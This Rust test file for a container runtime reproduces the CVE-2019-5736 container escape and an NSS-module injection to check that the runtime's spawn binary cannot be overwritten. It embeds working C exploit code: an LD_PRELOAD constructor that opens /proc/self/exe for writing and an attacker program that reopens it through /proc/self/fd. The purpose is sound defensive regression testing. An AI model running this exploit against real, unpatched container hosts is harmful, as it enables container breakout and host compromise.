//! CVE-2019-5736, run for real: a container must never be able to write to the host's
//! `berth-spawn`. The test builds a glibc image from the host's own loader and libraries
//! (what `ldd` names) plus two small C programs compiled here with gcc, and a `/pwn`
//! script whose interpreter is `#!/proc/self/exe`. `docker exec` (and `docker run`) of
//! `/pwn` makes the kernel run berth-spawn's own executable inside the container, with
//! the image's libraries and an `LD_PRELOAD`ed library whose constructor grabs
//! `/proc/self/exe` (an `O_PATH` descriptor, and a direct `O_WRONLY` open), then execs an
//! attacker that reopens that descriptor for writing through `/proc/self/fd/N` once the
//! runtime's processes are gone, and writes. berthd runs copies of berth-monitor and
//! berth-spawn, so that a regression corrupts a copy, never the build.

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::Command;

use berth_testkit::{Berthd, binary, docker, docker_ok, printed, require_tool};

/// LD_PRELOADed into whatever runs `/pwn`: the runtime's binary, in the container.
const GRAB_C: &str = r#"
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void grab(void) {
    char exe[512] = {0};
    if (readlink("/proc/self/exe", exe, sizeof exe - 1) < 0) _exit(96);
    char direct[64];
    int w = open("/proc/self/exe", O_WRONLY);
    if (w >= 0) {
        ssize_t n = pwrite(w, "PWNED", 5, 0);
        snprintf(direct, sizeof direct, "open-ok-write-%s", n == 5 ? "ok" : "failed");
    } else {
        snprintf(direct, sizeof direct, "open-failed-errno-%d", errno);
    }
    int fd = open("/proc/self/exe", O_PATH);
    char fdnum[16];
    snprintf(fdnum, sizeof fdnum, "%d", fd);
    char *argv[] = {"/attack", fdnum, direct, exe, NULL};
    char *envp[] = {NULL};
    execve("/attack", argv, envp);
    _exit(97);
}
"#;

/// Reopens the runtime's executable for writing once nothing executes it any more.
const ATTACK_C: &str = r#"
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 4) return 2;
    printf("exe=%s\ndirect=%s\n", argv[3], argv[2]);
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%s", argv[1]);
    int w = -1, err = 0;
    /* ETXTBSY lasts while the runtime still runs the file: retry for up to 20 s. */
    for (int i = 0; i < 20000; i++) {
        w = open(path, O_WRONLY);
        if (w >= 0) break;
        err = errno;
        if (err != ETXTBSY) break;
        usleep(1000);
    }
    if (w < 0) {
        printf("reopen=failed-errno-%d\n", err);
        return 0;
    }
    ssize_t n = pwrite(w, "PWNED", 5, 0);
    if (n == 5) printf("reopen=ok write=ok\n");
    else printf("reopen=ok write=failed-errno-%d\n", errno);
    return 0;
}
"#;

fn sha256(path: &Path) -> String {
    let mut bytes = Vec::new();
    std::fs::File::open(path)
        .unwrap()
        .read_to_end(&mut bytes)
        .unwrap();
    berth_oci::Digest::of(&bytes).to_string()
}

fn gcc(dir: &Path, name: &str, source: &str, extra: &[&str]) -> PathBuf {
    let src = dir.join(format!("{name}.c"));
    std::fs::write(&src, source).unwrap();
    let out_path = dir.join(name);
    let out = Command::new(require_tool("gcc", "gcc"))
        .args(extra)
        .arg("-o")
        .arg(&out_path)
        .arg(&src)
        .output()
        .unwrap();
    assert!(out.status.success(), "gcc {name}: {}", printed(&out));
    out_path
}

/// The shared objects `ldd` says `binaries` need, with the dynamic loader: their absolute
/// paths as the binaries ask for them.
fn libraries(binaries: &[&Path]) -> Vec<String> {
    let mut libs = Vec::new();
    for b in binaries {
        let out = Command::new(require_tool("ldd", "libc-bin"))
            .arg(b)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "ldd {}: {}",
            b.display(),
            printed(&out)
        );
        for line in String::from_utf8_lossy(&out.stdout).lines() {
            let path = match line.split_once("=>") {
                Some((_, right)) => right.split_whitespace().next(),
                None => line.split_whitespace().next(),
            };
            if let Some(p) = path.filter(|p| p.starts_with('/')) {
                libs.push(p.to_owned());
            }
        }
    }
    libs.sort();
    libs.dedup();
    libs
}

/// A root filesystem tar: busybox, the glibc bits, the two programs and `/pwn`.
fn rootfs_tar(files: &[(String, Vec<u8>, u32)]) -> Vec<u8> {
    let mut dirs: Vec<String> = ["dev", "proc", "sys", "tmp", "etc", "bin"]
        .iter()
        .map(|d| d.to_string())
        .collect();
    for (path, _, _) in files {
        let mut parent = Path::new(path).parent();
        while let Some(p) = parent.filter(|p| !p.as_os_str().is_empty()) {
            dirs.push(p.to_string_lossy().into_owned());
            parent = p.parent();
        }
    }
    dirs.sort();
    dirs.dedup();
    let mut builder = tar::Builder::new(Vec::new());
    for d in dirs {
        let mut h = tar::Header::new_ustar();
        h.set_entry_type(tar::EntryType::Directory);
        h.set_mode(0o755);
        h.set_size(0);
        builder
            .append_data(&mut h, format!("{d}/"), &[][..])
            .unwrap();
    }
    for (path, data, mode) in files {
        let mut h = tar::Header::new_ustar();
        h.set_entry_type(tar::EntryType::Regular);
        h.set_mode(*mode);
        h.set_size(data.len() as u64);
        builder.append_data(&mut h, path, data.as_slice()).unwrap();
    }
    builder.into_inner().unwrap()
}

/// Runs the attack with `args` (`exec CTR /pwn` or `run IMAGE /pwn`) and returns what
/// the attacker printed.
fn attack(host: &str, args: &[&str]) -> String {
    let out = docker(host, args);
    let text = printed(&out);
    assert!(
        text.contains("exe=") && text.contains("direct="),
        "the constructor must have run in the runtime's binary (else the test proves nothing): {text}"
    );
    text
}

/// An NSS module: loaded into any process of the image that looks a user up by id.
const NSS_C: &str = r#"
#include <fcntl.h>
#include <unistd.h>

__attribute__((constructor)) static void loaded(void) {
    int fd = open("/nss-module-loaded", O_WRONLY | O_CREAT, 0644);
    if (fd >= 0) close(fd);
}
"#;

/// Looks root up by id, as libcontainer does for a missing HOME.
const LOOKUP_C: &str = r#"
#include <pwd.h>

int main(void) {
    getpwuid(0);
    return 0;
}
"#;

/// The glibc image of these tests, as a root filesystem tarball in `work`: the loader and
/// libraries of `spawn` and of the programs, the programs, `/pwn`, busybox, and an NSS
/// configuration that loads the image's own module for user lookups.
fn glibc_image(work: &Path, spawn: &Path) -> PathBuf {
    let grab = gcc(work, "grab.so", GRAB_C, &["-shared", "-fPIC"]);
    let attacker = gcc(work, "attack", ATTACK_C, &[]);
    let nss = gcc(work, "libnss_berthtest.so.2", NSS_C, &["-shared", "-fPIC"]);
    let lookup = gcc(work, "lookup", LOOKUP_C, &[]);
    let libs = libraries(&[spawn, &grab, &attacker]);
    let libc_dir = libs
        .iter()
        .find(|l| l.ends_with("/libc.so.6"))
        .and_then(|l| Path::new(l).parent())
        .expect("ldd names libc.so.6")
        .to_string_lossy()
        .trim_start_matches('/')
        .to_owned();
    let mut files: Vec<(String, Vec<u8>, u32)> = libs
        .iter()
        .map(|lib| {
            // The loader and libraries are symlinks on the host: the image gets their
            // contents at the paths the binaries ask for.
            let data = std::fs::read(lib).unwrap();
            (lib.trim_start_matches('/').to_owned(), data, 0o755)
        })
        .collect();
    files.push(("grab.so".into(), std::fs::read(&grab).unwrap(), 0o755));
    files.push(("attack".into(), std::fs::read(&attacker).unwrap(), 0o755));
    files.push(("lookup".into(), std::fs::read(&lookup).unwrap(), 0o755));
    files.push(("pwn".into(), b"#!/proc/self/exe\n".to_vec(), 0o755));
    files.push((
        format!("{libc_dir}/libnss_berthtest.so.2"),
        std::fs::read(&nss).unwrap(),
        0o755,
    ));
    files.push((
        "etc/nsswitch.conf".into(),
        b"passwd: berthtest\ngroup: berthtest\n".to_vec(),
        0o644,
    ));
    files.push((
        "bin/busybox".into(),
        std::fs::read("/bin/busybox").expect("apt-get install busybox-static"),
        0o755,
    ));
    let tarball = work.join("rootfs.tar");
    std::fs::write(&tarball, rootfs_tar(&files)).unwrap();
    tarball
}

/// berthd running copies of berth-monitor and berth-spawn from `work`, so a regression
/// damages these and not target/; and the copy of berth-spawn.
fn berthd_with_copies(work: &Path) -> (Berthd, PathBuf) {
    let bin = work.join("bin");
    std::fs::create_dir(&bin).unwrap();
    for name in ["berth-monitor", "berth-spawn"] {
        std::fs::copy(binary(name), bin.join(name)).unwrap();
    }
    let monitor = bin.join("berth-monitor");
    let berthd = Berthd::start_with_env(&[], &[("BERTH_MONITOR", monitor.to_str().unwrap())]);
    (berthd, bin.join("berth-spawn"))
}

#[test]
fn a_container_cannot_rewrite_berth_spawn_through_proc_self_exe() {
    let work = tempfile::tempdir().unwrap();
    let (berthd, spawn) = berthd_with_copies(work.path());
    let before = sha256(&spawn);
    let tarball = glibc_image(work.path(), &spawn);
    let host = berthd.docker_host();
    docker_ok(
        &host,
        &["import", tarball.to_str().unwrap(), "cve-2019-5736:1"],
    );

    // docker exec: berth-spawn's tenant process execs /pwn inside the container.
    let id = docker_ok(
        &host,
        &[
            "run",
            "-d",
            "cve-2019-5736:1",
            "/bin/busybox",
            "sleep",
            "1000",
        ],
    );
    let attacks: [(&str, Vec<&str>); 2] = [
        // docker exec: berth-spawn's tenant process execs /pwn inside the container.
        (
            "exec",
            vec!["exec", "-e", "LD_PRELOAD=/grab.so", &id, "/pwn"],
        ),
        // docker run: the container's init execs /pwn.
        (
            "run",
            vec![
                "run",
                "--rm",
                "-e",
                "LD_PRELOAD=/grab.so",
                "cve-2019-5736:1",
                "/pwn",
            ],
        ),
    ];
    for (what, args) in attacks {
        let text = attack(&host, &args);
        eprintln!("what the attacker saw through docker {what}:\n{text}");
        assert_eq!(
            sha256(&spawn),
            before,
            "docker {what}: the host's berth-spawn was rewritten from a container:\n{text}"
        );
        assert!(
            !text.contains("write-ok") && !text.contains("write=ok"),
            "{text}"
        );
        assert!(
            text.contains("exe=/memfd:berth-spawn"),
            "docker {what}: berth-spawn must run from its sealed memfd: {text}"
        );
    }
    // And berth still works: the binary it runs is intact.
    let out = docker(&host, &["exec", &id, "/bin/busybox", "echo", "still here"]);
    assert!(out.status.success(), "{}", printed(&out));
    docker_ok(&host, &["rm", "-f", &id]);
}

/// libcontainer looks up an empty or missing `HOME` with getpwuid after entering the
/// container: glibc would then load the image's NSS module into berth-spawn, running the
/// image's code in the runtime before it drops anything. berth always passes a HOME.
#[test]
fn the_images_nss_modules_never_load_into_berth_spawn() {
    let work = tempfile::tempdir().unwrap();
    let (berthd, spawn) = berthd_with_copies(work.path());
    let tarball = glibc_image(work.path(), &spawn);
    let host = berthd.docker_host();
    docker_ok(&host, &["import", tarball.to_str().unwrap(), "nss:1"]);
    let loaded = |id: &str| {
        docker(
            &host,
            &[
                "exec",
                id,
                "/bin/busybox",
                "test",
                "-e",
                "/nss-module-loaded",
            ],
        )
        .status
        .success()
    };
    // docker run with an empty HOME: the container's init.
    let id = docker_ok(
        &host,
        &[
            "run",
            "-d",
            "-e",
            "HOME=",
            "nss:1",
            "/bin/busybox",
            "sleep",
            "1000",
        ],
    );
    assert!(
        !loaded(&id),
        "the image's NSS module ran in berth-spawn's init (run)"
    );
    // docker exec with an empty HOME, as root and as a user of its own.
    for user in ["0", "1234"] {
        let out = docker(
            &host,
            &[
                "exec",
                "-u",
                user,
                "-e",
                "HOME=",
                &id,
                "/bin/busybox",
                "sh",
                "-c",
                "echo $HOME",
            ],
        );
        assert!(out.status.success(), "{}", printed(&out));
        assert_eq!(String::from_utf8_lossy(&out.stdout), "/\n");
        assert!(
            !loaded(&id),
            "the image's NSS module ran in berth-spawn (exec -u {user})"
        );
    }
    // The test can tell: a lookup in the container itself does load the module.
    docker_ok(&host, &["exec", &id, "/lookup"]);
    assert!(
        loaded(&id),
        "a user lookup in the image loads its NSS module"
    );
    docker_ok(&host, &["rm", "-f", &id]);
}
